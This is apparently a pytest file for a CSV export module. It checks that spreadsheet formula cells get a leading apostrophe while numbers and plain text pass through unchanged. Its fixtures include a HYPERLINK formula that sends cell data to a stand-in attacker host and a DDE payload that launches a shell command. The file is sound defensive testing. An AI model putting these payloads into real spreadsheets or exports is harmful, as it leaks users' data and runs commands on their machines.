"""SPEC §22 "CSV": every cell a spreadsheet would run as a formula is neutralised; numbers stay numbers."""

import csv
import io

import pandas as pd
import pytest

from core.csv_export import frame_csv, neutralise, write_csv

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


@pytest.mark.parametrize("cell", [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1",
                                  "-", "+", "=", "@"])
def test_formula_cells_get_a_leading_apostrophe(cell):
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Patient P1", "", "3500", "-3", "-0.125", "+12", "1e-05", "-1.5E+3", 42, -7, -0.5,
                                  None, "a=b", " =1"])
def test_plain_text_and_numbers_are_left_alone(cell):
    assert neutralise(cell) == cell


def test_write_csv_neutralises_header_and_cells_and_reads_back():
    text = write_csv(["name", "=evil"], [[HYPERLINK, -3], ["Ann", "-0.5"]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["name", "'=evil"], ["'" + HYPERLINK, "-3"], ["Ann", "-0.5"]]


def test_frame_csv_matches_pandas_for_safe_values_and_neutralises_the_rest():
    frame = pd.DataFrame({"kpi": ["booked", "@risk"], "value": [3, None], "change": [-0.125, 0.5]})
    rows = list(csv.reader(io.StringIO(frame_csv(frame))))
    assert rows == [["kpi", "value", "change"], ["booked", "3.0", "-0.125"], ["'@risk", "", "0.5"]]
    safe = frame.iloc[[0]]
    assert frame_csv(safe) == safe.to_csv(index=False, lineterminator="\n")
